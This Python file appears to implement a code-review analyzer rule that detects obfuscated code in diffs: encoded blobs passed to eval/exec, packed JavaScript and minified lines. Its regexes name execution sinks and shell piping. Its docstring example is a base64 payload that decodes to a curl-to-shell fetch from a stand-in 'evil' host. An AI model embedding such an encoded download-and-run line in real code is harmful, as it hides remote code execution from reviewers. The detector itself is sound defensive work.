"""anomaly-obfuscated-code: encoded blobs that reach an evaluator, and packed or minified code in sources."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import PurePosixPath

from analyzers.base import Analyzer, Family, Finding, RuleMeta, Severity
from analyzers.contract.model import ChangeContext, ChangedFile, FileKind, FileStatus

_SKIPPED_KINDS = frozenset({FileKind.DOCS, FileKind.BINARY, FileKind.LOCKFILE})
_ASSET_KINDS = frozenset({FileKind.GENERATED, FileKind.VENDORED})
_ASSET_DIRS = frozenset(
    {"dist", "build", "out", "vendor", "node_modules", "public", "static", "assets", "third_party"}
    | {"third-party", "testdata", "test-data", "fixtures", "__fixtures__"}
)
_ASSET_NAMES = re.compile(r"\.(?:min|bundle|packed|chunk)\.[cm]?js$|-min\.js$|\.min\.\w+$")
_MAP = re.compile(r"\.map$")
# A sink applied directly to a decoder: what still counts on minified lines and in built assets, where
# any long line holds some sink and some decoder apart.
_DIRECT = re.compile(
    r"\b(?:eval|exec|execfile|compile|Function|system|popen|create_function|runInThisContext)\s*\(\s*"
    r"(?:[\w$.]+\.)?(?:atob|b64decode|b32decode|base64_decode|decodebytes|unhexlify|fromhex|decompress"
    r"|gzinflate|str_rot13|fromCharCode|loads)\s*\(|\bnew\s+Function\s*\(\s*(?:[\w$.]+\.)?atob\s*\("
)
_CODE_LANGUAGES = frozenset({"python", "javascript", "typescript", "tsx", "ruby", "php", "bash", "go"})
_SINK = re.compile(
    r"\b(?:eval|exec|execfile|compile|Function|setTimeout|setInterval|runInThisContext|runInNewContext"
    r"|system|popen|create_function|instance_eval|class_eval)\s*\(|\bnew\s+Function\b"
    r"|\|\s*(?:ba)?sh\b"
)
_DECODE = re.compile(
    r"\batob\s*\(|b64decode\s*\(|b32decode\s*\(|base64_decode\s*\(|decodebytes\s*\(|unhexlify\s*\("
    r"|bytes\.fromhex\s*\(|codecs\.decode\s*\(|zlib\.decompress\s*\(|gzinflate\s*\(|str_rot13\s*\("
    r"|marshal\.loads\s*\(|Buffer\.from\s*\([^)]{0,300}['\"](?:base64|hex)['\"]|String\.fromCharCode\s*\("
    r"|unpack\s*\(\s*['\"][mH]|base64\s+(?:-d|--decode)\b|\.decode\s*\(\s*['\"](?:base64|hex|rot13)"
)
_BLOB = re.compile(r"['\"`]([A-Za-z0-9+/=_-]{120,}|(?:[0-9a-fA-F]{2}){60,})['\"`]")
_HEX_ESCAPES = re.compile(r"(?:\\x[0-9a-fA-F]{2}){40,}")
_CHAR_CODES = re.compile(r"String\.fromCharCode\s*\(\s*(?:\d+\s*,\s*){7,}\d+\s*\)")
_PACKER = re.compile(r"eval\s*\(\s*function\s*\(\s*p\s*,\s*a\s*,\s*c\s*,\s*k\s*,\s*e\s*,\s*[dr]\s*\)")
_ASSIGNED = re.compile(r"^\s*(?:(?:const|let|var|my|local)\s+)?\$?(?P<name>[A-Za-z_]\w*)\s*(?::[^=]+)?=[^=]")
# Every word the patterns below need: a file whose added lines have none of them (and no long line)
# is not read line by line.
_HINT = re.compile(
    r"eval|exec|Function|compile|setTimeout|setInterval|runIn|system|popen|_eval|fromCharCode|decode"
    r"|decompress|atob|b64|b32|base64|fromhex|hexlify|marshal|rot13|unpack|gzinflate|\\x[0-9a-fA-F]{2}"
    r"|\|\s*(?:ba)?sh\b"
)
_MINIFIED_LENGTH = 500
_MINIFIED_SPACE_RATIO = 0.08


class AnomalyObfuscatedCode(Analyzer):
    """Encoded blobs that reach an evaluator, and packed or minified code in source paths.

    ## What it flags

    On added lines of source files:

    - an evaluator (`eval`, `exec`, `Function`, `compile`, `system`, `| sh`, ...) and a decoder (`atob`,
      `base64.b64decode`, `bytes.fromhex`, `Buffer.from(..., 'base64')`, `String.fromCharCode`,
      `zlib.decompress`, `marshal.loads`, `gzinflate`, ...) on the same line: `eval(atob("..."))`,
      `exec(base64.b64decode(...))`;
    - the same through a name: `code = base64.b64decode(blob)` on one added line and `exec(code)` on
      a later one;
    - packed code: `eval(function(p,a,c,k,e,d)...`;
    - `String.fromCharCode` with eight or more numeric arguments, strings of forty or more `\\xNN`
      escapes, and a base64 or hex literal of 120 characters or more passed to a decoder (medium when
      no evaluator is on the line);
    - minified code: a line of 500 characters or more with under 8 % whitespace (medium).

    ## Why it is risky

    Code that is written to be unreadable is written not to be reviewed. Malicious packages and
    compromised contributors hide their payload in an encoded string that is decoded and run at import
    time; a reviewer sees only noise.

    ## Example

    ```diff
    +exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V2aWwvc2ggfCBzaCcp"))
    ```

    ## How to fix

    Commit the readable source. Build output belongs in `dist/` or `build/` (or out of the repository),
    data belongs in a data file, and nothing should be decoded and then executed.

    ## Tuning

    Built, vendored and test-data assets (`dist/`, `build/`, `out/`, `vendor/`, `node_modules/`,
    `public/`, `static/`, `assets/`, `third_party/`, `testdata/`, `fixtures/`, `*.min.*`,
    `*.bundle.js`) are minified by nature: there only a sink applied directly to a decoder
    (`eval(atob(`, `exec(base64.b64decode(`) is reported (high), never minified or packed code. On a
    minified line of a source file, where some sink and some decoder always stand apart, only that
    direct form is high too. Files marked generated (by name, header or `.gitattributes`) are read
    as assets. Source maps, documentation and lockfiles are skipped. One finding per line.

    ## References

    - CWE-506: Embedded Malicious Code
    - CWE-95: Eval Injection
    - MITRE ATT&CK T1027: Obfuscated Files or Information
    """

    meta = RuleMeta(
        id="anomaly-obfuscated-code",
        family=Family.ANOMALY,
        summary="Encoded blobs that reach an evaluator, and packed or minified code in source paths",
        severity=Severity.HIGH,
        cwe=(506, 95),
    )

    def analyze(self, ctx: ChangeContext) -> Iterator[Finding]:
        for changed in ctx.files:
            if not _is_source(changed):
                continue
            if _is_asset(changed):
                yield from self._asset(changed)
                continue
            added = list(changed.iter_added())
            if not any(len(text) >= _MINIFIED_LENGTH for _, text in added) and not _HINT.search(
                "\n".join(text for _, text in added)
            ):
                continue
            decoded: set[str] = set()
            for number, text in added:
                found = _judge(text, decoded)
                if found is not None:
                    message, severity, confidence = found
                    yield self.finding(
                        changed,
                        number,
                        message,
                        confidence=confidence,
                        severity=severity,
                        evidence=text.strip()[:200],
                    )

    def _asset(self, changed: ChangedFile) -> Iterator[Finding]:
        """Built, vendored and test-data files: only a sink applied directly to a decoder."""
        for number, text in changed.iter_added():
            if _DIRECT.search(text):
                yield self.finding(
                    changed,
                    number,
                    f"decoded data is executed in a built or vendored file: `{_clip(text)}`",
                    confidence=0.8,
                    severity=Severity.HIGH,
                    evidence=text.strip()[:200],
                )


def _is_source(changed: ChangedFile) -> bool:
    if changed.status is FileStatus.REMOVED or changed.kinds & _SKIPPED_KINDS or _MAP.search(changed.path):
        return False
    return changed.language in _CODE_LANGUAGES or FileKind.CODE in changed.kinds


def _is_asset(changed: ChangedFile) -> bool:
    parts = PurePosixPath(changed.path).parts
    if changed.kinds & _ASSET_KINDS or any(part in _ASSET_DIRS for part in parts[:-1]):
        return True
    return bool(_ASSET_NAMES.search(changed.path))


def _judge(text: str, decoded: set[str]) -> tuple[str, Severity, float] | None:
    """(message, severity, confidence) for one added line, or None. `decoded` collects the names that
    earlier added lines of the file assigned from a decoder."""
    if _PACKER.search(text):
        return "packed code (`eval(function(p,a,c,k,e,d)`) added to a source path", Severity.HIGH, 0.95
    decoder = _DECODE.search(text)
    sink = _SINK.search(text)
    if _is_minified(text):  # any long line holds some sink and some decoder apart
        if _DIRECT.search(text):
            return f"decoded data is executed: `{_clip(text)}`", Severity.HIGH, 0.85
        return "minified code added to a source path", Severity.MEDIUM, 0.6
    if decoder is not None and sink is not None and sink.start() < decoder.start():
        return f"decoded data is executed: `{_clip(text)}`", Severity.HIGH, 0.9
    if sink is not None and any(
        re.search(rf"\b{re.escape(name)}\b", text[sink.start() :]) for name in decoded
    ):
        return f"decoded data is executed: `{_clip(text)}`", Severity.HIGH, 0.85
    assigned = _ASSIGNED.match(text)
    if decoder is not None and assigned is not None:
        decoded.add(assigned["name"])
    if _CHAR_CODES.search(text):
        severity = Severity.HIGH if sink else Severity.MEDIUM
        return "code hidden as character codes (`String.fromCharCode`)", severity, 0.8
    if _HEX_ESCAPES.search(text):
        return "long `\\x` escaped string", Severity.HIGH if sink else Severity.MEDIUM, 0.7
    if decoder is not None and _BLOB.search(text):
        return "long encoded blob passed to a decoder", Severity.MEDIUM, 0.6
    if _is_minified(text):
        return "minified code added to a source path", Severity.MEDIUM, 0.6
    return None


def _is_minified(text: str) -> bool:
    if len(text) < _MINIFIED_LENGTH:
        return False
    spaces = sum(1 for char in text if char.isspace())
    return spaces / len(text) < _MINIFIED_SPACE_RATIO and any(token in text for token in (";", "{", "=>"))


def _clip(text: str) -> str:
    stripped = text.strip()
    return stripped if len(stripped) <= 80 else stripped[:77] + "..."
